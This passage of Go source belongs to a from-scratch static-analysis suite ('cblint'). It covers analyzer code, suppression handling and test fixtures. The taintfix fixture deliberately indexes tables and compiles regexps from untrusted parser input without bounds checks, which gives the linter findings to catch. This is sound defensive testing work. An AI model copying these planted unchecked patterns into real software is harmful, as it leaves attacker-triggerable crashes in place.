	return true
}

// Check implements Analyzer.
func (c CtxFlow) Check(pkg *Package, _ *Facts) []Diagnostic {
	var diags []Diagnostic
	library := libraryCode(pkg.ImportPath)
	for _, f := range pkg.Files {
		table := importTable(f)
		// Pass 1: fresh root contexts in library code.
		if library {
			ast.Inspect(f, func(n ast.Node) bool {
				call, ok := n.(*ast.CallExpr)
				if !ok {
					return true
				}
				if fn, ok := rootContextCall(pkg, table, call); ok {
					diags = append(diags, Diagnostic{
						Analyzer: c.Name(),
						Pos:      pkg.Fset.Position(call.Pos()),
						Message: "context." + fn +
							"() in library code severs cancellation; accept and thread the caller's ctx",
					})
				}
				return true
			})
		}
		// Pass 2: in-scope ctx dropped at a call site.
		ast.Inspect(f, func(n ast.Node) bool {
			fd, ok := n.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				return true
			}
			ctxName, ok := contextParamName(pkg, table, fd.Type)
			if !ok {
				return true
			}
			ast.Inspect(fd.Body, func(m ast.Node) bool {
				call, ok := m.(*ast.CallExpr)
				if !ok || len(call.Args) == 0 {
					return true
				}
				argCall, ok := call.Args[0].(*ast.CallExpr)
				if !ok {
					return true
				}
				fn, ok := rootContextCall(pkg, table, argCall)
				if !ok {
					return true
				}
				diags = append(diags, Diagnostic{
					Analyzer: c.Name(),
					Pos:      pkg.Fset.Position(argCall.Pos()),
					Message: "call passes context." + fn + "() while ctx " +
						quoteName(ctxName) + " is in scope; pass the in-scope ctx",
				})
				return true
			})
			return true
		})
	}
	return diags
}

// rootContextCall matches context.Background() / context.TODO().
func rootContextCall(pkg *Package, table map[string]string, call *ast.CallExpr) (string, bool) {
	path, fn, ok := pkgCallee(pkg, table, call)
	if !ok || path != "context" {
		return "", false
	}
	if fn == "Background" || fn == "TODO" {
		return fn, true
	}
	return "", false
}

// contextParamName returns the name of the first context.Context parameter
// of the function type, if any named one exists.
func contextParamName(pkg *Package, table map[string]string, ft *ast.FuncType) (string, bool) {
	if ft.Params == nil {
		return "", false
	}
	for _, field := range ft.Params.List {
		if !isContextType(pkg, table, field.Type) {
			continue
		}
		for _, name := range field.Names {
			if name.Name != "_" {
				return name.Name, true
			}
		}
	}
	return "", false
}

// isContextType matches the context.Context selector type, by type info
// when available and by import-table resolution otherwise.
func isContextType(pkg *Package, table map[string]string, expr ast.Expr) bool {
	if pkg.Info != nil {
		if tv, ok := pkg.Info.Types[expr]; ok && tv.Type != nil {
			if named, ok := tv.Type.(*types.Named); ok {
				obj := named.Obj()
				return obj.Name() == "Context" && obj.Pkg() != nil && obj.Pkg().Path() == "context"
			}
		}
	}
	sel, ok := expr.(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Context" {
		return false
	}
	id, ok := sel.X.(*ast.Ident)
	return ok && table[id.Name] == "context"
}

func quoteName(name string) string { return "\"" + name + "\"" }
