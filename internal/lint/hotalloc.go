package lint

import (
	"fmt"
	"go/ast"
	"go/types"
	"strings"
)

// HotpathDirective marks a function as per-message hot path: it runs once
// per corpus message on the streaming analyze/census/evidence path, so its
// allocations multiply by a million under the paper-scale corpus. The
// directive goes in the function's doc comment:
//
//	//cblint:hotpath
//	func (s *CensusShard) AddAnalysis(idx int, ma *crawlerbox.MessageAnalysis) {
const HotpathDirective = "cblint:hotpath"

// HotAlloc enforces the ~O(1)-allocation-per-message contract on hot-path
// functions (DESIGN.md §11, §13). Inside a //cblint:hotpath function:
//
//  1. append must target a slice declared in the function itself — an
//     append into a captured, receiver-reachable, or package-level slice
//     accumulates across calls and grows with the corpus.
//  2. fmt.Sprintf-family calls (Sprintf, Sprint, Sprintln, Errorf) must not
//     sit inside a loop: each call allocates a string, and loops on the hot
//     path run per message part.
//  3. Map writes into captured/receiver maps must not be keyed by
//     per-message identity (a key expression reading an ID, URL, or Path
//     field): such maps grow one entry per message. Bounded-domain keys
//     (hosts, outcome labels, cloak kinds) are fine; sanctioned identity-
//     keyed sites carry an explicit //cblint:ignore with the reason.
type HotAlloc struct{}

// Name implements Analyzer.
func (HotAlloc) Name() string { return "hotalloc" }

// Doc implements Analyzer.
func (HotAlloc) Doc() string {
	return "//cblint:hotpath functions must not allocate proportionally to corpus size (captured-slice appends, Sprintf in loops, identity-keyed map growth)"
}

// Applies implements Analyzer: internal production code.
func (HotAlloc) Applies(importPath string) bool {
	return strings.Contains(importPath+"/", "/internal/") ||
		strings.HasPrefix(importPath, "internal/")
}

// Check implements Analyzer.
func (HotAlloc) Check(pkg *Package, _ *Facts) []Diagnostic {
	if pkg.Info == nil {
		return nil
	}
	var diags []Diagnostic
	for _, f := range pkg.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil || !isHotpath(fd) {
				continue
			}
			diags = append(diags, checkHotFunc(pkg, fd)...)
		}
	}
	return diags
}

// isHotpath reports whether the function's doc comment carries the
// directive.
func isHotpath(fd *ast.FuncDecl) bool {
	if fd.Doc == nil {
		return false
	}
	for _, c := range fd.Doc.List {
		text := strings.TrimSpace(strings.TrimPrefix(c.Text, "//"))
		if text == HotpathDirective {
			return true
		}
	}
	return false
}

// checkHotFunc walks one hot function, tracking loop depth.
func checkHotFunc(pkg *Package, fd *ast.FuncDecl) []Diagnostic {
	var diags []Diagnostic
	var walk func(n ast.Node, inLoop bool)
	walk = func(n ast.Node, inLoop bool) {
		ast.Inspect(n, func(m ast.Node) bool {
			switch node := m.(type) {
			case *ast.ForStmt:
				if node.Init != nil {
					walk(node.Init, inLoop)
				}
				walk(node.Body, true)
				return false
			case *ast.RangeStmt:
				walk(node.Body, true)
				return false
			case *ast.FuncLit:
				// A closure defined on the hot path inherits the contract:
				// it is called from here or captured into the same flow.
				walk(node.Body, inLoop)
				return false
			case *ast.CallExpr:
				diags = append(diags, checkHotCall(pkg, fd, node, inLoop)...)
			case *ast.AssignStmt:
				for _, lhs := range node.Lhs {
					diags = append(diags, checkHotMapWrite(pkg, fd, lhs)...)
				}
			case *ast.IncDecStmt:
				diags = append(diags, checkHotMapWrite(pkg, fd, node.X)...)
			}
			return true
		})
	}
	walk(fd.Body, false)
	return diags
}

// checkHotCall flags rule-1 appends and rule-2 Sprintf-in-loop calls.
func checkHotCall(pkg *Package, fd *ast.FuncDecl, call *ast.CallExpr, inLoop bool) []Diagnostic {
	if id, ok := unparen(call.Fun).(*ast.Ident); ok && id.Name == "append" {
		if _, isBuiltin := pkg.Info.Uses[id].(*types.Builtin); isBuiltin && len(call.Args) > 0 {
			root := writeRoot(pkg, call.Args[0])
			if root != nil && !bodyLocal(root, fd) {
				return []Diagnostic{{
					Analyzer: "hotalloc",
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf("hotpath append into %s, which outlives the call; per-message appends into captured slices grow with the corpus",
						exprString(call.Args[0])),
				}}
			}
		}
		return nil
	}
	if !inLoop {
		return nil
	}
	if sel, ok := unparen(call.Fun).(*ast.SelectorExpr); ok {
		if fn, ok := pkg.Info.Uses[sel.Sel].(*types.Func); ok &&
			fn.Pkg() != nil && fn.Pkg().Path() == "fmt" {
			switch fn.Name() {
			case "Sprintf", "Sprint", "Sprintln", "Errorf":
				return []Diagnostic{{
					Analyzer: "hotalloc",
					Pos:      pkg.Fset.Position(call.Pos()),
					Message: fmt.Sprintf("fmt.%s inside a hotpath loop allocates per iteration; format once outside the loop or index a precomputed table",
						fn.Name()),
				}}
			}
		}
	}
	return nil
}

// identityKeyNames are the selector/identifier names that mark a map key as
// per-message identity.
var identityKeyNames = map[string]bool{
	"ID": true, "URL": true, "Path": true,
	"id": true, "url": true, "path": true,
}

// checkHotMapWrite flags rule-3 identity-keyed growth of long-lived maps.
func checkHotMapWrite(pkg *Package, fd *ast.FuncDecl, lhs ast.Expr) []Diagnostic {
	idx, ok := unparen(lhs).(*ast.IndexExpr)
	if !ok || !isMapExpr(pkg, idx.X) {
		return nil
	}
	root := writeRoot(pkg, idx.X)
	if root == nil || bodyLocal(root, fd) {
		return nil
	}
	if !mentionsIdentity(pkg, idx.Index) {
		return nil
	}
	return []Diagnostic{{
		Analyzer: "hotalloc",
		Pos:      pkg.Fset.Position(lhs.Pos()),
		Message: fmt.Sprintf("hotpath map write %s keyed by per-message identity grows one entry per message; aggregate into a bounded key or sanction the site with an ignore",
			exprString(lhs)),
	}}
}

// bodyLocal reports whether v is declared inside the function body. Unlike
// shardpure's localDef, the receiver and parameters do NOT count: they are
// state from the caller's frame, so slices and maps reached through them
// outlive the hot call.
func bodyLocal(obj types.Object, fd *ast.FuncDecl) bool {
	return fd.Body != nil && obj.Pos() >= fd.Body.Pos() && obj.Pos() <= fd.Body.End()
}

// mentionsIdentity reports whether the key expression reads an identity
// field or variable.
func mentionsIdentity(pkg *Package, key ast.Expr) bool {
	found := false
	ast.Inspect(key, func(n ast.Node) bool {
		if found {
			return false
		}
		switch node := n.(type) {
		case *ast.SelectorExpr:
			if identityKeyNames[node.Sel.Name] {
				found = true
				return false
			}
		case *ast.Ident:
			if identityKeyNames[node.Name] {
				// Only variables count — a type or package named "url"
				// appearing in a conversion is not an identity read.
				if _, ok := pkg.Info.Uses[node].(*types.Var); ok {
					found = true
					return false
				}
			}
		}
		return true
	})
	return found
}
