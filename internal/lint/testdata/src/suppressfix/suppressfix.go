// Package suppressfix exercises the suppression directive itself: a named
// suppression, the "all" wildcard, and a malformed directive with no reason.
package suppressfix

import "time"

func covered() time.Time {
	//cblint:ignore determinism fixture demonstrates a named suppression
	return time.Now()
}

func wildcard() time.Time {
	//cblint:ignore all fixture demonstrates the wildcard
	return time.Now()
}

func missingReason() time.Time {
	//cblint:ignore determinism
	return time.Now()
}
