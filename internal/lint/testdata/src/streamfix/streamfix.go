// Package streamfix is the streamsafe-analyzer fixture. It imports the
// real dataset and report packages so the type-driven ledger detection is
// exercised against the genuine Corpus and Run types.
package streamfix

import (
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/report"
)

func CountRawBytes(c *dataset.Corpus) int {
	total := 0
	for i := range c.Messages { // want "materializes the whole corpus"
		total += len(c.Messages[i].Raw)
	}
	return total
}

func CollectRaw(c *dataset.Corpus) [][]byte {
	out := make([][]byte, 0, len(c.Messages)) // want "sized by the whole corpus"
	c.Each(func(i int, m *dataset.Message) bool {
		out = append(out, m.Raw)
		return true
	})
	return out
}

func CountAnalyses(r *report.Run) int {
	n := 0
	for _, ma := range r.Analyses { // want "materializes the whole corpus"
		if ma != nil {
			n++
		}
	}
	return n
}

// Streamed is the clean shape: iterate through Each, size by Len.
func Streamed(c *dataset.Corpus) []int {
	sizes := make([]int, 0, c.Len())
	c.Each(func(i int, m *dataset.Message) bool {
		sizes = append(sizes, len(m.Raw))
		return true
	})
	return sizes
}

// NotALedger proves the check is type-driven: a field named Messages on an
// unrelated struct is untouched.
type mailbox struct {
	Messages []string
}

func CountMailbox(mb *mailbox) int {
	n := 0
	for range mb.Messages {
		n++
	}
	return n
}

// Sanctioned demonstrates the suppression the real materialization sites
// carry.
func Sanctioned(c *dataset.Corpus) int {
	n := 0
	//cblint:ignore streamsafe fixture demonstrates the sanctioned-site suppression
	for range c.Messages {
		n++
	}
	return n
}
