// Package taintlib is the downstream half of the taintfix fixture: its
// exported helper sinks its index parameter, and the facts engine carries
// that summary back to taintfix's call sites.
package taintlib

// At returns b[i]; callers must bounds-check i.
func At(b []byte, i int) byte {
	return b[i]
}
