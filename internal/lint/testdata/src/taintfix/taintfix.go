// Package taintfix is the taintflow fixture: bytes returned by the
// attacker-facing parsers are tainted, and letting a tainted value steer a
// panic-prone sink without a dominating bounds check is a finding. The
// taintlib subpackage proves the propagation crosses package boundaries
// through the facts engine: its sink summaries are computed separately and
// consumed here.
package taintfix

import (
	"regexp"

	"crawlerbox/internal/lint/testdata/src/taintfix/taintlib"
	"crawlerbox/internal/mime"
)

// classTable maps class bytes to labels.
var classTable = []byte{'a', 'b', 'c', 'd'}

// Classify indexes a table by a parser-controlled byte without a check.
func Classify(raw []byte) byte {
	p, err := mime.Parse(raw)
	if err != nil || len(p.Body) == 0 {
		return 0
	}
	n := int(p.Body[0])
	return classTable[n] // want "tainted index"
}

// CrossPackage drives a parser-controlled index into taintlib.At's
// unguarded lookup; the finding lands here via taintlib's fact summary.
func CrossPackage(raw []byte) byte {
	p, err := mime.Parse(raw)
	if err != nil || len(p.Body) == 0 {
		return 0
	}
	n := int(p.Body[0])
	return taintlib.At(p.Body, n) // want "reaches slice index inside"
}

// Pattern compiles attacker text as a regexp.
func Pattern(raw []byte) *regexp.Regexp {
	p, err := mime.Parse(raw)
	if err != nil {
		return nil
	}
	return regexp.MustCompile(string(p.Body)) // want "panics on attacker-chosen input"
}

// Guarded is clean: the lookup is dominated by a comparison on the tainted
// index.
func Guarded(raw []byte) byte {
	p, err := mime.Parse(raw)
	if err != nil || len(p.Body) == 0 {
		return 0
	}
	n := int(p.Body[0])
	if n >= len(classTable) {
		return 0
	}
	return classTable[n]
}

// Sanctioned shows the suppression workflow for a reviewed site.
func Sanctioned(raw []byte) byte {
	p, err := mime.Parse(raw)
	if err != nil || len(p.Body) == 0 {
		return 0
	}
	n := int(p.Body[0])
	//cblint:ignore taintflow fixture sanctions a reviewed unguarded index
	return classTable[n]
}
