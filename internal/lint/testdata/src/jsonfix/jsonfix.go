// Package jsonfix is the fixed-content fixture behind cmd/cblint's golden
// JSON output test. Keep it stable: the golden file encodes these exact
// positions.
package jsonfix

import "time"

// Stamp reads the wall clock twice, yielding two findings on one line.
func Stamp() (time.Time, time.Time) {
	return time.Now(), time.Now()
}
