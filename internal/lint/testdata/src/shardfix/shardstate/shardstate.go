// Package shardstate holds cross-package mutable state for the shardfix
// fixture: writing it from a Merge method is a shardpure violation even
// though it is not package-level in the merging package.
package shardstate

// Total is mutable package state no Merge may write.
var Total int
