// Package shardfix is the shardpure fixture: Merge must write only
// receiver-reachable state, pin order-dependent map overwrites with a
// comparator on existing state, and worker goroutines must not write
// package-level variables.
package shardfix

import "crawlerbox/internal/lint/testdata/src/shardfix/shardstate"

// merges is package-level mutable state; Merge must not touch it.
var merges int

// Shard is a per-worker accumulator folded by Merge.
type Shard struct {
	counts map[string]int
	first  map[string]int
	note   map[string]string
}

// New returns an empty shard.
func New() *Shard {
	return &Shard{counts: map[string]int{}, first: map[string]int{}, note: map[string]string{}}
}

// Merge folds o into s.
func (s *Shard) Merge(o *Shard) {
	merges++           // want "package-level variable"
	shardstate.Total++ // want "not reachable from the receiver"
	for k, v := range o.counts {
		s.counts[k] += v // commutative accumulation: clean
	}
	for k, v := range o.first {
		if j, ok := s.first[k]; !ok || v < j {
			s.first[k] = v // pinned by the comparator above: clean
		}
	}
	for k, v := range o.note {
		s.note[k] = v // want "order-dependent overwrite"
	}
	//cblint:ignore shardpure fixture sanctions a reviewed last-writer-wins field
	s.note["latest"] = o.note["latest"]
}

// Produce launches a worker that illegally publishes through a global.
func Produce(out chan<- *Shard) {
	go func() {
		merges = 0 // want "worker goroutine writes package-level variable"
		out <- New()
	}()
}
