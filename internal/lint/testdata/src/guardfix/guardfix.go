// Package guardfix is the guarded-analyzer fixture: accessing an annotated
// field without locking its mutex first is a finding, and so is annotating
// a field with a guard that does not exist.
package guardfix

import "sync"

type counter struct {
	mu sync.Mutex
	n  int // guarded by mu
	// guarded by lock
	bad int // want "is not a field of counter"
}

func (c *counter) Good() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n
}

func (c *counter) Bad() int {
	return c.n // want "lock c.mu before accessing it in Bad"
}

func (c *counter) BadIncr() {
	c.n++ // want "lock c.mu before accessing it in BadIncr"
}

func (c *counter) Sanctioned() int {
	//cblint:ignore guarded fixture demonstrates an annotated racy read
	return c.n
}
