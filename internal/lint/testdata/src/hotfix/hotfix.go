// Package hotfix is the hotalloc fixture: //cblint:hotpath functions run
// once per corpus message, so allocations into long-lived state — appends
// into captured slices, Sprintf in loops, identity-keyed map growth — scale
// with the corpus and are findings.
package hotfix

import "fmt"

// Msg is a per-message record carrying identity fields.
type Msg struct {
	ID   string
	Host string
}

// Sink accumulates across the whole run.
type Sink struct {
	trail []string
	seen  map[string]bool
	hosts map[string]int
}

// Record is the hot path; all three rules fire.
//
//cblint:hotpath
func (s *Sink) Record(m *Msg) {
	s.trail = append(s.trail, m.Host) // want "outlives the call"
	for i := 0; i < 4; i++ {
		_ = fmt.Sprintf("step-%d", i) // want "allocates per iteration"
	}
	s.seen[m.ID] = true // want "per-message identity"
	s.hosts[m.Host]++   // bounded-domain key: clean
}

// RecordBounded shows the compliant shape plus a sanctioned identity site.
//
//cblint:hotpath
func (s *Sink) RecordBounded(m *Msg) {
	parts := make([]string, 0, 2)
	parts = append(parts, m.Host) // body-local slice: clean
	s.hosts[parts[0]]++
	//cblint:ignore hotalloc fixture sanctions a reviewed identity-keyed write
	s.seen[m.ID] = true
}

// Cold is not annotated, so nothing in it is checked.
func (s *Sink) Cold(m *Msg) {
	s.trail = append(s.trail, m.ID)
}
