// Package determfix is the determinism-analyzer fixture: wall-clock reads
// and global rand draws are findings; seeded generators and pure time
// arithmetic are not.
package determfix

import (
	"math/rand"
	"time"
)

func wallClock() time.Time {
	return time.Now() // want "time.Now reads the process wall clock"
}

func napAndDraw() int {
	time.Sleep(time.Millisecond) // want "time.Sleep reads the process wall clock"
	return rand.Int()            // want "global rand.Int is not seed-injected"
}

func sanctioned(seed int64) *rand.Rand {
	//cblint:ignore determinism generator is seeded from the caller-supplied seed
	return rand.New(rand.NewSource(seed))
}

func fine(r *rand.Rand, at time.Time) time.Time {
	if r.Float64() > 0.5 {
		return at.Add(time.Minute)
	}
	return time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
}
