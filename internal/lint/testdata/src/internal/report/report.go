// Package report is the maprange-analyzer fixture. Its directory is named
// so the loaded import path ends in internal/report — one of the enforced
// aggregation packages.
package report

import "sort"

func Unsorted(m map[string]int) int {
	total := 0
	for _, v := range m { // want "iterates in random order"
		total += v
	}
	return total
}

func FirstKey(m map[string]bool) string {
	for k := range m { // want "iterates in random order"
		return k
	}
	return ""
}

func Sorted(m map[string]int) []string {
	var keys []string
	for k := range m {
		if m[k] > 0 {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	return keys
}

func Sanctioned(m map[string]int) int {
	best := 0
	//cblint:ignore maprange max of values is independent of iteration order
	for _, v := range m {
		if v > best {
			best = v
		}
	}
	return best
}
