// Package ctxfix is the ctxflow-analyzer fixture: fresh root contexts in
// library code and calls that drop an in-scope ctx are findings; threading
// the caller's ctx is not.
package ctxfix

import "context"

func fetch(ctx context.Context, url string) error {
	return ctx.Err()
}

func library(url string) error {
	return fetch(context.Background(), url) // want "severs cancellation"
}

func drops(ctx context.Context, url string) error {
	return fetch(context.TODO(), url) // want "severs cancellation" "is in scope; pass the in-scope ctx"
}

func threads(ctx context.Context, url string) error {
	return fetch(ctx, url)
}

func sanctioned(url string) error {
	//cblint:ignore ctxflow fixture demonstrates an annotated convenience wrapper
	return fetch(context.Background(), url)
}
