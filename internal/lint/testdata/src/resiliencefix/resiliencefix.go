// Package resiliencefix is the resilience-analyzer fixture: real-time
// sleeps, timers, and wall-clock context deadlines are findings;
// virtual-clock arithmetic is not.
package resiliencefix

import (
	"context"
	"time"
)

func backoffNap(d time.Duration) {
	time.Sleep(d) // want "time.Sleep blocks on the process timer"
}

func timerWait() {
	<-time.After(time.Second) // want "time.After blocks on the process timer"
}

func perCallDeadline(ctx context.Context) (context.Context, context.CancelFunc) {
	return context.WithTimeout(ctx, time.Second) // want "context.WithTimeout arms a wall-clock deadline"
}

func sanctioned(ctx context.Context) (context.Context, context.CancelFunc) {
	//cblint:ignore resilience fixture demonstrates a documented suppression, not a retry path
	return context.WithDeadline(ctx, time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC))
}

type clock interface{ Now() time.Time }

// fine charges a wait to a virtual clock: no process timer involved.
func fine(c clock, d time.Duration) time.Time {
	return c.Now().Add(d)
}
