// Package cleanfix has nothing to report — the exit-zero path of the
// cblint driver tests.
package cleanfix

// Double is deterministic, context-free, and lock-free.
func Double(x int) int { return 2 * x }
