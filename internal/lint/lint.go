// Package lint is cblint: a from-scratch static-analysis suite, built on
// nothing but the standard library's go/parser, go/build, and go/types, that
// machine-checks the invariants the pipeline's reproducibility and
// bounded-memory guarantees rest on (DESIGN.md §9, §13). Nine analyzers ship
// today — six per-package passes:
//
//   - determinism: wall-clock reads and global math/rand calls are banned in
//     internal production code — time flows through webnet.Clock and
//     randomness through explicitly seeded *rand.Rand values.
//   - maprange: range over a map in an aggregation/rendering package is
//     scheduling-dependent; keys must be collected and sorted first.
//   - ctxflow: context.Background()/context.TODO() belong at the edges
//     (cmd/, examples/, tests); library code threads the caller's ctx, and
//     a call must not drop an in-scope ctx a callee accepts.
//   - guarded: a struct field annotated "guarded by <mutex>" may only be
//     touched by methods that lock that mutex on the same receiver first.
//   - resilience: real-time waits (time.Sleep, timers) and wall-clock
//     deadlines (context.WithTimeout/WithDeadline) are banned in internal
//     code — backoff and budgets are charged to the virtual clock through
//     resilience.Session.
//   - streamsafe: ranging over (or allocating proportionally to) the whole
//     in-RAM corpus ledger — dataset.Corpus.Messages, report.Run.Analyses —
//     is banned outside the sanctioned streaming sites; corpus processing
//     goes through Corpus.Each and per-worker census shards so peak memory
//     stays O(workers).
//
// and three multi-pass analyzers built on the cross-package Facts engine
// (facts.go), which computes per-package function summaries once, caches
// them by content hash, and serves them to downstream packages:
//
//   - taintflow: values derived from the attacker-facing parsers (mime,
//     htmlx, pdfx, qrcode, minijs, urlx) are tainted; a tainted value
//     reaching a panic-prone sink — slice/array indexing or slicing without
//     a guarding bounds check in the same function, make with a tainted
//     length, an unchecked unsigned-to-signed integer conversion,
//     regexp.MustCompile of a tainted pattern — is a finding, with
//     interprocedural propagation through function summaries.
//   - shardpure: a type with a Merge method (CensusShard, obs.Registry, …)
//     must only write receiver-reachable state, must pin order-dependent
//     slice folds with a comparator, and worker goroutines must not touch
//     package-level mutable variables.
//   - hotalloc: a function annotated //cblint:hotpath (the per-message
//     stream/census/evidence path) must not allocate proportionally to
//     corpus size — no append into captured slices, no fmt.Sprintf-family
//     calls in loops, no map growth keyed by per-message identity.
//
// Findings are suppressed, one line at a time, with an explicit
//
//	//cblint:ignore <analyzer> <reason>
//
// directive on the offending line or the line directly above it; the reason
// is mandatory so every suppression documents itself.
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// Version is the analyzer-suite version stamped into JSON output, SARIF,
// baselines, and the facts cache. Bump it whenever an analyzer's findings or
// the facts format change shape: a version mismatch invalidates cached facts
// and marks baselines as needing regeneration.
const Version = "2.0.0"

// Diagnostic is one finding, positioned for file:line:col reporting.
type Diagnostic struct {
	Analyzer string         `json:"analyzer"`
	Pos      token.Position `json:"-"`
	File     string         `json:"file"`
	Line     int            `json:"line"`
	Col      int            `json:"col"`
	Message  string         `json:"message"`
	// FileHash is the content hash of File, filled by the driver so JSON
	// output and baselines stay stable across checkouts (paths relative,
	// hashes content-derived).
	FileHash string `json:"file_hash,omitempty"`
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s:%d:%d: [%s] %s", d.File, d.Line, d.Col, d.Analyzer, d.Message)
}

// Analyzer is one invariant checker.
type Analyzer interface {
	// Name is the registry key the suppression directive references.
	Name() string
	// Doc is a one-line description for `cblint -list`.
	Doc() string
	// Applies reports whether the analyzer covers the package with the
	// given import path. The driver consults it; fixture tests bypass it
	// and call Check directly.
	Applies(importPath string) bool
	// Check analyzes one package and returns raw (unsuppressed) findings.
	// The facts engine carries cross-package function summaries; analyzers
	// that are purely intra-package ignore it, and it may be nil.
	Check(pkg *Package, facts *Facts) []Diagnostic
}

// Registry returns the analyzers in their canonical order.
func Registry() []Analyzer {
	return []Analyzer{
		Determinism{},
		MapRange{},
		CtxFlow{},
		Guarded{},
		Resilience{},
		StreamSafe{},
		TaintFlow{},
		ShardPure{},
		HotAlloc{},
	}
}

// IgnoreDirective is the comment prefix of a suppression.
const IgnoreDirective = "cblint:ignore"

// suppression is one parsed ignore directive.
type suppression struct {
	analyzer string
	reason   string
}

// suppressions maps file name -> line -> directives covering that line. A
// directive covers its own line (trailing comment) and the line directly
// below it (standalone comment above the offending statement).
type suppressions map[string]map[int][]suppression

// parseSuppressions collects every well-formed ignore directive in the
// package. Malformed directives (missing analyzer or reason) surface as
// diagnostics themselves: a suppression that doesn't say why is a finding.
func parseSuppressions(pkg *Package) (suppressions, []Diagnostic) {
	sup := suppressions{}
	var diags []Diagnostic
	for _, f := range pkg.Files {
		for _, cg := range f.Comments {
			for _, c := range cg.List {
				text := strings.TrimPrefix(c.Text, "//")
				text = strings.TrimPrefix(text, "/*")
				text = strings.TrimSuffix(text, "*/")
				text = strings.TrimSpace(text)
				rest, ok := strings.CutPrefix(text, IgnoreDirective)
				if !ok {
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				fields := strings.Fields(rest)
				if len(fields) < 2 {
					diags = append(diags, Diagnostic{
						Analyzer: "cblint",
						Pos:      pos,
						Message: fmt.Sprintf("malformed %s directive: want %q",
							IgnoreDirective, IgnoreDirective+" <analyzer> <reason>"),
					})
					continue
				}
				s := suppression{analyzer: fields[0], reason: strings.Join(fields[1:], " ")}
				if sup[pos.Filename] == nil {
					sup[pos.Filename] = map[int][]suppression{}
				}
				sup[pos.Filename][pos.Line] = append(sup[pos.Filename][pos.Line], s)
				sup[pos.Filename][pos.Line+1] = append(sup[pos.Filename][pos.Line+1], s)
			}
		}
	}
	return sup, diags
}

// covers reports whether a directive suppresses the diagnostic.
func (s suppressions) covers(d Diagnostic) bool {
	for _, sp := range s[d.Pos.Filename][d.Pos.Line] {
		if sp.analyzer == d.Analyzer || sp.analyzer == "all" {
			return true
		}
	}
	return false
}

// Result is the outcome of running the registry over one package.
type Result struct {
	// Diagnostics are the surviving findings, sorted by position.
	Diagnostics []Diagnostic
	// Suppressed counts findings silenced by ignore directives.
	Suppressed int
}

// RunPackage applies every registered analyzer that covers pkg, resolves
// suppressions, and returns position-sorted findings. The facts engine may
// be nil, in which case the cross-package analyzers degrade to intra-package
// summaries.
func RunPackage(pkg *Package, analyzers []Analyzer, facts *Facts) Result {
	sup, diags := parseSuppressions(pkg)
	var res Result
	for _, a := range analyzers {
		if !a.Applies(pkg.ImportPath) {
			continue
		}
		diags = append(diags, a.Check(pkg, facts)...)
	}
	for _, d := range diags {
		fill(&d)
		if sup.covers(d) {
			res.Suppressed++
			continue
		}
		res.Diagnostics = append(res.Diagnostics, d)
	}
	SortDiagnostics(res.Diagnostics)
	return res
}

// fill derives the flat File/Line/Col fields from Pos.
func fill(d *Diagnostic) {
	d.File = d.Pos.Filename
	d.Line = d.Pos.Line
	d.Col = d.Pos.Column
}

// SortDiagnostics orders findings by file, line, column, analyzer, message —
// the linter's own output must be deterministic, too.
func SortDiagnostics(ds []Diagnostic) {
	sort.Slice(ds, func(i, j int) bool {
		a, b := ds[i], ds[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Col != b.Col {
			return a.Col < b.Col
		}
		if a.Analyzer != b.Analyzer {
			return a.Analyzer < b.Analyzer
		}
		return a.Message < b.Message
	})
}

// importTable maps a file's local package names to import paths — the
// syntax-level fallback for resolving selector expressions like time.Now
// when type information is unavailable (broken packages, fixtures).
func importTable(f *ast.File) map[string]string {
	t := map[string]string{}
	for _, imp := range f.Imports {
		path := strings.Trim(imp.Path.Value, `"`)
		name := path
		if i := strings.LastIndexByte(path, '/'); i >= 0 {
			name = path[i+1:]
		}
		if imp.Name != nil {
			name = imp.Name.Name
			if name == "_" || name == "." {
				continue
			}
		}
		t[name] = path
	}
	return t
}

// pkgCallee resolves a call of the form pkgname.Func(...) to (importPath,
// funcName). It prefers type information (which sees through shadowing) and
// falls back to the file's import table.
func pkgCallee(pkg *Package, table map[string]string, call *ast.CallExpr) (string, string, bool) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", "", false
	}
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return "", "", false
	}
	if pkg.Info != nil {
		if obj := pkg.Info.Uses[id]; obj != nil {
			if pn, ok := obj.(*types.PkgName); ok {
				return pn.Imported().Path(), sel.Sel.Name, true
			}
			// The identifier resolved to something that is not a package
			// name (a local variable shadowing an import, say).
			return "", "", false
		}
	}
	if path, ok := table[id.Name]; ok {
		return path, sel.Sel.Name, true
	}
	return "", "", false
}
