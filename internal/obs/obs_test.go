package obs

import (
	"bytes"
	"strings"
	"testing"
	"time"
)

// fakeClock is a hand-advanced Clock for unit tests.
type fakeClock struct{ t time.Time }

func (c *fakeClock) Now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }
func newFakeClock() *fakeClock               { return &fakeClock{t: time.Date(2024, 11, 1, 0, 0, 0, 0, time.UTC)} }

func TestSpanNesting(t *testing.T) {
	clock := newFakeClock()
	tr := NewTrace(7, clock)
	root := tr.Start(SpanMessage, "message 7")
	clock.advance(10 * time.Millisecond)
	child := tr.Start(SpanStage, "crawl")
	grand := tr.Start(SpanVisit, "visit https://a.example/x")
	clock.advance(50 * time.Millisecond)
	grand.SetAttr("status", "200")
	grand.End()
	child.End()
	clock.advance(time.Millisecond)
	root.SetStatus(StatusError)
	root.End()

	spans := tr.Spans()
	if len(spans) != 3 {
		t.Fatalf("spans = %d, want 3", len(spans))
	}
	if root.ID != 1 || child.ID != 2 || grand.ID != 3 {
		t.Errorf("ids = %d %d %d, want 1 2 3", root.ID, child.ID, grand.ID)
	}
	if child.Parent != root.ID || grand.Parent != child.ID || root.Parent != 0 {
